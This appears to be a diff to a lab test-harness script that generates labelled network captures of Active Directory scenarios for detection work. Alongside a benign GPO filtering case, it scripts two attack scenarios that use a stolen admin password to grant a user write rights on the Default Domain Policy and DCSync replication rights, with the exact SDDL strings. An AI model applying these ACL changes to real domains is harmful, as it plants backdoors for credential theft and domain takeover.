@@ -972,3 +972,49 @@ sc_trust_created() {
   expect "dcerpc && ip.src==$ATK_IP" 3
   cap_end
 }
+
+SCEN_LIST="$SCEN_LIST benign_gpo_security_filtering gpo_edit_rights_granted dcsync_rights_granted"
+
+GPO_DN="CN={31B2F340-016D-11D2-945F-00C04FB984F9},CN=Policies,CN=System"   # the Default Domain Policy
+
+sid_of() {   # sid_of user|group NAME
+  st "$1" show "$2" --attributes=objectSid | sed -n 's/^objectSid: //p'
+}
+
+dsacl_remote() {   # dsacl_remote HOST DN SDDL: one ACE added over sealed LDAP as da_admin
+  on "$1" -- samba-tool dsacl set --objectdn="$2" --sddl="$3" -H "ldap://$DC_IP" -s "$WORK/client.conf" \
+    -U "$DOMAIN\\$DA_USER%$DA_PASS" --use-kerberos=off
+}
+
+sc_benign_gpo_security_filtering() {
+  local group
+  group=$(sid_of group "IT Staff")
+  cap_begin benign_gpo_security_filtering benign none "$WS_IP" "Default Domain Policy (read and apply for IT Staff)" \
+    "Security filtering of a GPO: da_admin at the workstation gives the group IT Staff read and Apply Group Policy on the Default Domain Policy (samba-tool dsacl set over sealed LDAP), as the Group Policy Management console's Security Filtering does; no write right. With the directory synced after it."
+  dsacl_remote ws "$GPO_DN,$BASEDN" "(OA;;CR;edacfd8f-ffb3-11d1-b41d-00a0c968f939;;$group)(A;;RPLCLORC;;;$group)"
+  expect "tcp.dstport==389 && ip.src==$WS_IP"
+  cap_end
+  sync_directory benign_gpo_security_filtering
+}
+
+sc_gpo_edit_rights_granted() {
+  local bob
+  bob=$(sid_of user bob)
+  cap_begin gpo_edit_rights_granted attack T1484.001 "$ATK_IP" "Default Domain Policy (write for bob)" \
+    "A GPO backdoor: with da_admin's stolen password the attacker gives bob read and write on the Default Domain Policy (samba-tool dsacl set over sealed LDAP), so that bob can later push settings, tasks and scripts to every computer of the domain (SharpGPOAbuse)."
+  dsacl_remote atk "$GPO_DN,$BASEDN" "(A;;RPWPLCLORC;;;$bob)"
+  expect "tcp.dstport==389 && ip.src==$ATK_IP"
+  cap_end
+  sync_directory gpo_edit_rights_granted
+}
+
+sc_dcsync_rights_granted() {
+  local bob
+  bob=$(sid_of user bob)
+  cap_begin dcsync_rights_granted attack T1222.001 "$ATK_IP" "$BASEDN (replication rights for bob)" \
+    "A DCSync backdoor: with da_admin's stolen password the attacker gives bob DS-Replication-Get-Changes and DS-Replication-Get-Changes-All on the domain object (samba-tool dsacl set over sealed LDAP), as ntlmrelayx --escalate-user does with a relayed account."
+  dsacl_remote atk "$BASEDN" "(OA;;CR;1131f6aa-9c07-11d1-f79f-00c04fc2dcd2;;$bob)(OA;;CR;1131f6ad-9c07-11d1-f79f-00c04fc2dcd2;;$bob)"
+  expect "tcp.dstport==389 && ip.src==$ATK_IP"
+  cap_end
+  sync_directory dcsync_rights_granted
+}
